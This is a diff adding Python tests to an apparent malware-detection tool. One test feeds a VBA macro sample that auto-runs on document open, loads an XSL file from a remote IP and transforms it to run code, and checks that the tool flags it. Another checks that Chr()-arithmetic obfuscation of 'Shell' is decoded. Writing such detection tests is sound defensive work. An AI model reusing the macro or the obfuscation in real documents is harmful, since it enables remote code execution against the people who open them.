@@ -144,3 +144,25 @@ def test_emotet_dropper_is_malicious(shared_data: Path, scanner: Scanner) -> Non
     r = scanner.scan_bytes(data, name=name)
     assert {"vba.autoexec", "vba.autoexec_exec"} <= _ids(r)
     assert r.verdict == "malicious"
+
+
+def test_remote_xsl_transform_is_execution() -> None:
+    from aptcatch.capture.formats import vba_rules
+
+    code = (
+        'Private Sub Document_open()\nSet d = CreateObject("Msxml2.DOMDocument.3.0")\n'
+        'd.async = False\nd.Load "http://198.51.100.7/r.jpg"\nd.transformNode (d)\nEnd Sub\n'
+    )
+    verdict = vba_rules.classify(code)
+    assert "vba.remote_xsl" in verdict.hits
+    assert "vba.remote_xsl" in verdict.executes
+
+
+def test_fold_evaluates_chr_arithmetic() -> None:
+    from aptcatch.capture.formats.vba_fold import fold, folded_strings
+
+    assert fold('x = Chr(80 + 3) & "he" & "l" & Chr(100 + 8)') == 'x = "Shell"'
+    assert "Shell.Application" in folded_strings(
+        "Function f()\nf = Chr(80 + 3) & \"hell\"\nEnd Function\n"
+        "Set o = CreateObject(f & \".\" & Chr(60 + 5) & \"pplication\")"
+    )
